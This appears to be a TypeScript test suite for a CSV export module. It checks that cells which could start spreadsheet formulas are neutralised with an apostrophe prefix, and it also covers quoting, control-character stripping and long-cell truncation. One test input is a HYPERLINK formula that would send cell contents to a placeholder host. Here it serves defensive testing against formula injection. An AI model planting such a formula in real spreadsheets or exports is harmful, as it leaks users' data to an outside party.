import * as fc from "fast-check";
import { expect, test } from "vitest";
import { csvCell, csvLine, exportCutOff, fitCell, readCell } from "../../app/desk/export/export-format.ts";
import { cleanText } from "../../app/ui/beginning-of.ts";
import { readCsv } from "../support/read-csv.ts";

test.each([
  ["=1+1", `"'=1+1"`],
  ['=HYPERLINK("http://x.example?"&A1)', `"'=HYPERLINK(""http://x.example?""&A1)"`],
  ["+1 704 555 0100", `"'+1 704 555 0100"`],
  ["@SUM(A1)", `"'@SUM(A1)"`],
  ["\t=1+1", `"'\t=1+1"`],
  ["＝1+1", `"'＝1+1"`],
  ["a,b", `"a,b"`],
  ['say "hi"', `"say ""hi"""`],
  ["'tis", `"'tis"`],
  ["02138", `"'02138"`],
  ["1E5", `"'1E5"`],
  ["May 5", `"'May 5"`],
  ["September 2, 2026", `"'September 2, 2026"`],
  ["5-Dec", `"'5-Dec"`],
  [".5", `"'.5"`],
  ["True", `"'True"`],
  ["May", `"May"`],
  ["5 May Street", `"5 May Street"`],
  ["(919) 555-0142", `"(919) 555-0142"`],
  ["2026-11-01", `"2026-11-01"`],
  ["2026-11-01T12:00:00.000Z", `"2026-11-01T12:00:00.000Z"`],
  ["a\u0000b\u001B[31m\u0085c\uD800", `"ab[31mc"`],
  ["", `""`],
])("the cell of %j is %s", (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test("figures are bare, nothing is empty, and a list is its parts", () => {
  expect(csvLine([12, -3, null, ["a", "b"], []])).toBe('12,-3,,"a; b",""\r\n');
});

test("a spreadsheet that makes a number of every cell of digits changes no text", () => {
  const texts = ["02138", "5901234123457", "007", "1234567890123456789", "1/2"];
  const [saved = []] = readCsv(csvLine(texts)).map((record) =>
    record.map((cell) => (/^[\d/ .-]+$/.test(cell) ? String(Number(cell)) : cell)),
  );
  expect(saved.map(readCell)).toEqual(texts);
});

test("no cell is longer than a spreadsheet's can be: it ends at a whole character and says where the rest is", () => {
  const address = "https://site.example/desk/messages/m-1";
  const end = exportCutOff(address);
  expect(fitCell("x".repeat(32_766), end)).toHaveLength(32_766);
  for (const text of ["x".repeat(32_767), `${"👨‍👩‍👧".repeat(5000)}`, `=${"é\u0301".repeat(30_000)}`]) {
    const [[cell = ""] = []] = readCsv(csvLine([text], end));
    expect(cell.length).toBeLessThanOrEqual(32_767);
    expect(cell.length).toBeGreaterThan(32_700);
    const kept = readCell(cell).split("… (")[0] ?? "";
    expect(cell).toContain(`All of it: ${address}, or in the file of JSON Lines)`);
    const whole = Array.from(new Intl.Segmenter("en").segment(text), ({ segment }) => segment);
    expect(whole.slice(0, Array.from(new Intl.Segmenter("en").segment(kept)).length).join("")).toBe(kept);
  }
});

test("a strict reader gets every text back but control characters, and none of them begins a formula", () => {
  const texts = fc.array(fc.oneof(fc.string(), fc.stringMatching(/^['=+\-@\t\r\n",a]{0,6}$/)), {
    minLength: 1,
    maxLength: 6,
  });
  fc.assert(
    fc.property(texts, (values) => {
      const [record = []] = readCsv(csvLine(values));
      expect(record.map(readCell)).toEqual(values.map(cleanText));
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }),
  );
});
